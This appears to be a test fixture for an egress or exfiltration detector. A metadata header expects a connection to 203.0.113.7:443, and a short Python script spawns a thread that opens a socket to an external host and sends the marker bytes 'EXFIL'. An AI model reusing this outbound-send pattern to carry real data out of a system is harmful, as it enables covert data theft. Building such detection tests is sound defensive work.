#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
import threading
def go(): s = socket.create_connection((EXT, 443)); s.sendall(b"EXFIL"); s.close()
t = threading.Thread(target=go); t.start(); t.join()
